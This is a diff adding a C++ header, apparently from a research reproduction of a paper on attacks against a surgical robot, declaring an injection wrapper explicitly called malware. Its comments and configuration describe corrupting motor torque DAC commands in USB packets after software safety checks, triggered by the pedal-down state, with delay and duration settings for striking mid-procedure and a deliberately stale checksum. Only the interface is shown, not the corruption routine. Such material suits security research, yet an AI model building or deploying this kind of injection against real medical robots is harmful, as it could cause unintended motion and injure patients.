@@ -1,0 +1,77 @@
+// Deployment-phase malware for attack scenario B: injection of unintended
+// motor torque commands *after* the software safety checks (the TOCTOU
+// exploit, paper Sec. III.B.3).
+//
+// The wrapper watches Byte 0 of every outgoing USB packet; when the
+// masked value equals the Pedal-Down code learned in the analysis phase,
+// it starts corrupting the DAC payload.  Corruption modes mirror the
+// paper's experiments: overwrite a raw byte with a random value, or
+// set/offset a specific channel's 16-bit DAC word.  The checksum is left
+// stale on purpose — the USB board never verifies it.
+#pragma once
+
+#include <cstdint>
+#include <optional>
+
+#include "attack/interposer.hpp"
+#include "common/rng.hpp"
+
+namespace rg {
+
+struct InjectionConfig {
+  // --- trigger (from the offline analysis) -------------------------------
+  std::size_t state_byte_index = 0;
+  std::uint8_t watchdog_mask = 0x10;
+  std::uint8_t trigger_code = 0x0F;  ///< masked Byte-0 value for Pedal Down
+
+  // --- what to corrupt ----------------------------------------------------
+  enum class Mode : std::uint8_t {
+    kRandomByte,   ///< overwrite one raw payload byte with a random value
+    kSetChannel,   ///< set a channel's int16 DAC word to `value`
+    kAddChannel,   ///< add `value` to a channel's int16 DAC word (saturating)
+  };
+  Mode mode = Mode::kAddChannel;
+  std::size_t target_byte = 4;     ///< for kRandomByte
+  std::uint8_t random_lo = 0;      ///< for kRandomByte
+  std::uint8_t random_hi = 100;    ///< for kRandomByte
+  std::size_t target_channel = 1;  ///< for channel modes (0..7)
+  std::int32_t value = 0;          ///< DAC counts for channel modes
+
+  // --- when ----------------------------------------------------------------
+  /// Triggered packets to skip before the attack activates (lets the
+  /// attacker strike mid-procedure rather than at first pedal press).
+  std::uint32_t delay_packets = 0;
+  /// Activation period: number of consecutive triggered packets to
+  /// corrupt (at 1 kHz, packets == milliseconds).  0 = unbounded.
+  std::uint32_t duration_packets = 64;
+
+  std::uint64_t seed = 99;
+};
+
+class InjectionWrapper final : public PacketInterposer {
+ public:
+  explicit InjectionWrapper(const InjectionConfig& config);
+
+  bool on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) override;
+
+  /// Number of packets actually corrupted so far.
+  [[nodiscard]] std::uint64_t injections() const noexcept { return injections_; }
+  /// Tick of the first corruption, if any.
+  [[nodiscard]] std::optional<std::uint64_t> first_injection_tick() const noexcept {
+    return first_tick_;
+  }
+  [[nodiscard]] bool done() const noexcept {
+    return config_.duration_packets > 0 && injections_ >= config_.duration_packets;
+  }
+
+ private:
+  void corrupt(std::span<std::uint8_t> bytes) noexcept;
+
+  InjectionConfig config_;
+  Pcg32 rng_;
+  std::uint64_t triggered_seen_ = 0;
+  std::uint64_t injections_ = 0;
+  std::optional<std::uint64_t> first_tick_{};
+};
+
+}  // namespace rg
